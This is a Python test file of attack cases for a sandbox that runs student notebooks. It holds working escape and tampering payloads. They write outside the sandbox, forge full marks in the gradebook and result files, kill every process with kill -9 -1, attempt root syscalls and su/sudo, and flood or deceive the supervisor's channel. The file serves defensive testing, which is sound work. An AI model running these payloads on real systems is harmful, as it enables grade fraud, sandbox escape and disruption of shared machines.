"""Attacks on what is outside: network, files, processes, the sandbox and its supervisor."""

from tests.attacks import FIND, FOUND, Attack

KILLS = "not run: it would kill the processes of this machine"
NO_SANDBOX = "does not apply: there is no sandbox to leave"

# The kernel's end of the channel to whatever supervises it, if there is one.
CHANNEL = '''\
import os
import socket


def channels():
    """Every open socket that keeps messages apart."""
    for name in os.listdir("/proc/self/fd"):
        try:
            one = socket.socket(fileno=os.dup(int(name)))
            if one.family == socket.AF_UNIX and one.type == socket.SOCK_SEQPACKET:
                one.setblocking(False)
                yield one
        except OSError:
            pass


'''

ATTACKS = [
    Attack("network", "escape",
           "Connects to the instructor's services, on the network, the loopback and Unix sockets.",
           before=FIND + '''

import socket

for kind, address in [
    (socket.AF_INET, ("127.0.0.1", int("@PORT@"))), (socket.AF_INET, ("@HOST@", int("@PORT@"))),
    (socket.AF_INET6, ("::1", int("@PORT@"))), (socket.AF_UNIX, "@SOCKET@"),
    (socket.AF_UNIX, "\\0@SOCKET@"),
]:
    try:
        with socket.socket(kind) as client:
            client.settimeout(2)
            client.connect(address)
            client.sendall(b"owned-network")
            find(client.recv(1000))
    except OSError as error:
        print(type(error).__name__, error.errno)
''', answers=FOUND),
    Attack("raw_network", "escape", "Opens raw, packet, netlink and vsock sockets.", before='''\
import socket

for family, kind in [(socket.AF_INET, socket.SOCK_RAW), (17, socket.SOCK_RAW), (40, 1), (38, 5)]:
    try:
        socket.socket(family, kind, 255 if family == 2 else 0).close()
        print("opened", family)
    except OSError as error:
        print(type(error).__name__, error.errno)
''', stock="not run: root's kernel may open them"),
    Attack("write_outside", "escape", "Writes into the course, the system and Python itself.",
           before='''\
import glob
import os
import site

targets = ["@COURSE@/canary.txt", "@COURSE@/owned-write_outside", "@HOME@/owned-write_outside"]
targets += glob.glob("@COURSE@/sub*/zzz_honest/**/*.ipynb", recursive=True)
for path in targets:
    try:
        with open(path, "a") as file:
            file.write("owned-write_outside")
    except OSError as error:
        print(type(error).__name__, path)
'''),
    Attack("write_system", "escape", "Writes into /etc, /usr, /proc/sys and the environment.",
           before='''\
import os
import site

for folder in ("/etc", "/usr/bin", "/", *site.getsitepackages(), "/proc/sys/kernel"):
    try:
        with open(folder + "/owned-write_system", "w") as file:
            file.write("owned")
        print("wrote", folder)
    except OSError as error:
        print(type(error).__name__, folder)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "")
        print("wrote", path)
    except OSError as error:
        print(type(error).__name__, path)
''', stock="not run: it would change this machine"),
    Attack("links_to_outside", "escape",
           "Links from the working folder to the course, read and written by whoever follows them.",
           before=FIND + '''

import os

for name, target in {
    "01_attacked.ipynb": "@COURSE@/canary.txt", "01_attacked.json": "@COURSE@/canary.txt",
    "link": "@COURSE@", "core": "@COURSE@/owned-links_to_outside",
}.items():
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(target, name)
        find_file(name)
        with open(name, "a") as file:
            file.write("owned-links_to_outside")
    except OSError as error:
        print(type(error).__name__, name)
''', answers=FOUND),
    Attack("gradebook_write", "marks", "Writes full marks into the gradebook with one statement.",
           before='''\
import glob
import sqlite3

for path in [*glob.glob("@COURSE@/**/gradebook.db", recursive=True), "../../../gradebook.db"]:
    try:
        with sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=5) as database:
            for statement in (
                "update grade set manual_score = (select max_score from grade_cell"
                " where grade_cell.id = grade.cell_id)",
                "update grade set manual_score = 2.0",
            ):
                try:
                    database.execute(statement)
                    print("wrote")
                    break
                except sqlite3.Error as error:
                    print(error)
    except sqlite3.Error as error:
        print(error)
'''),
    Attack("result_files", "marks", "Writes result files of full marks wherever they may be.",
           before='''\
import json
import os

result = json.dumps({"student": "result_files", "score": 7.0, "max_score": 7.0, "exercises": [
    {"name": name, "score": 2.0, "max_score": 2.0, "status": "passed", "message": "",
     "seconds": 0.1} for name in ("center", "slope", "averager", "codeword")]})
for folder in ("@COURSE@/results/result_files", "@COURSE@/results", ".", "/tmp", "results"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/01_attacked.json", "w") as file:
            file.write(result)
    except OSError as error:
        print(type(error).__name__, folder)
''', answers={"center": "import os\n\n\ndef center(x):\n    os._exit(0)\n"},
           source="Saligrama 2022"),
    Attack("daemon", "escape",
           "A process in a session of its own outlives the kernel and writes afterwards.",
           before="""\
import os
import subprocess
import sys

code = '''
import time
time.sleep(4)
open("@COURSE@/owned-daemon", "w").close()
time.sleep(60)
'''
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", code, "attack-daemon"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "attack-daemon"])
    os._exit(0)
""", source="Saligrama 2022"),
    Attack("atexit", "escape", "Hooks at the process's end and threads that go on after the cell.",
           before='''\
import atexit
import threading
import time


def last():
    open("@COURSE@/owned-atexit", "w").close()


def on():
    while True:
        time.sleep(0.05)
        for name in ("center", "slope"):
            get_ipython().user_ns[name] = lambda *args: 0.0
        print("passed")


atexit.register(last)
threading._register_atexit(last)
threading.Thread(target=on, daemon=True).start()
'''),
    Attack("signals", "escape", "Kills its parents, every process it may, and one by its number.",
           before='''\
import os
import signal

for pid in (int("@PID@"), os.getppid(), 1, -os.getpgid(0), -1):
    for number in (signal.SIGCONT, signal.SIGTERM, signal.SIGUSR1, signal.SIGCHLD, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("sent", number, pid)
        except OSError as error:
            print(type(error).__name__, pid)
''', stock=KILLS),
    Attack("kill_everything", "denial", "kill -9 -1 in the middle of an exercise.",
           answers={"center": "import os\n\n\ndef center(x):\n    os.kill(-1, 9)\n"}, stock=KILLS),
    Attack("privileges", "escape", "Becomes root, mounts, makes devices and namespaces.",
           before='''\
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
mount = (b"none", b"/mnt", b"tmpfs", 0, None)
calls = {
    "setuid": lambda: libc.setuid(0), "setresuid": lambda: libc.setresuid(0, 0, 0),
    "mount": lambda: libc.mount(*mount), "umount": lambda: libc.umount2(b"/proc", 2),
    "unshare": lambda: libc.unshare(0x10000000), "chroot": lambda: libc.chroot(b"/tmp"),
    "ptrace": lambda: libc.ptrace(16, os.getppid(), 0, 0), "setns": lambda: libc.setns(0, 0),
    "mknod": lambda: libc.mknod(b"disk", 0o60666, 0xFE00), "keyctl": lambda: libc.syscall(250, 0),
    "bpf": lambda: libc.syscall(321, 0, 0, 0), "io_uring": lambda: libc.syscall(425, 8, 0),
    "sethostname": lambda: libc.sethostname(b"owned", 5), "swapoff": lambda: libc.swapoff(b"/x"),
    "prctl": lambda: libc.prctl(23, 21, 0, 0, 0), "acct": lambda: libc.acct(b"/tmp/x"),
    "clone3": lambda: libc.syscall(435, 0, 0), "userfaultfd": lambda: libc.syscall(323, 0),
}
for name, call in calls.items():
    ctypes.set_errno(0)
    print("could" if call() >= 0 and name != "prctl" else "could not", name, ctypes.get_errno())
print(os.getuid(), os.popen("su -c id root </dev/null 2>&1; sudo -n id 2>&1").read())
print(open("/proc/self/status").read())
''', stock="not run: root's kernel may do all of it"),
    Attack("parents_memory", "escape", "Writes to the memory of its parents and of process 1.",
           before='''\
import os

for pid in (1, os.getppid(), int("@PID@")):
    for name in ("mem", "oom_score_adj", "fd/0", "fd/3", "timerslack_ns", "clear_refs"):
        try:
            with open(f"/proc/{pid}/{name}", "wb", 0) as file:
                file.write(b"0")
            print("wrote", pid, name)
        except OSError as error:
            print(type(error).__name__, pid, name)
''', stock=KILLS),
    Attack("supervisor_messages", "denial",
           "False messages to the sandbox's supervisor over the kernel's own channel.",
           before=CHANNEL + '''
def lie():
    for channel in channels():
        for message in (b"hello", b"ready", b"busy", b"idle", b"exit 0", b"exit ", b"exit x",
                        b"exit 99999999999999999999", b"failed", b"failed \\xff", b"\\xff" * 4096):
            try:
                channel.send(message)
            except OSError as error:
                print(type(error).__name__)


lie()
''', answers={"center": "def center(x):\n    lie()\n    os._exit(3)\n",
              "averager": "lie()\nos.kill(os.getpid(), 9)\n"}, stock=NO_SANDBOX),
    Attack("supervisor_flood", "denial", "A thread floods the supervisor's channel for good.",
           before=CHANNEL + '''
import threading


def flood(channel):
    channel.setblocking(True)
    while True:
        channel.send(b"x" * 4096)
        channel.send(b"busy")


for channel in channels():
    threading.Thread(target=flood, args=(channel,), daemon=True).start()
''', stock=NO_SANDBOX),
    Attack("supervisor_descriptors", "denial",
           "Open files are passed to the supervisor until it can open none.",
           before=CHANNEL + '''
for channel in channels():
    for _ in range(5000):
        try:
            socket.send_fds(channel, [b"idle"], [0, 1, 2, 0, 1, 2, 0, 1])
        except OSError as error:
            print(type(error).__name__)
            break
''', stock=NO_SANDBOX),
    Attack("supervisor_deaf", "denial",
           "The channel is read and closed by the student, so that interrupts do not arrive.",
           before=CHANNEL + '''
import threading


def swallow(channel):
    channel.setblocking(True)
    while True:
        channel.recv(4096)


for channel in channels():
    threading.Thread(target=swallow, args=(channel,), daemon=True).start()
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
''', stock=NO_SANDBOX),
    Attack("socket_links", "escape",
           "The kernel's sockets are replaced by links to a service of the instructor's.",
           before='''\
import glob
import os
import socket

for path in glob.glob("/sandbox/kernel/k-*") + glob.glob("/sandbox/kernel/*"):
    try:
        os.unlink(path)
        os.symlink("@SOCKET@", path)
    except OSError as error:
        print(type(error).__name__, path)
kernel = get_ipython().kernel
''', answers={"center": "def center(x):\n    kernel.shell_stream.close()\n    return 0 * x\n"},
           stock=NO_SANDBOX),
]
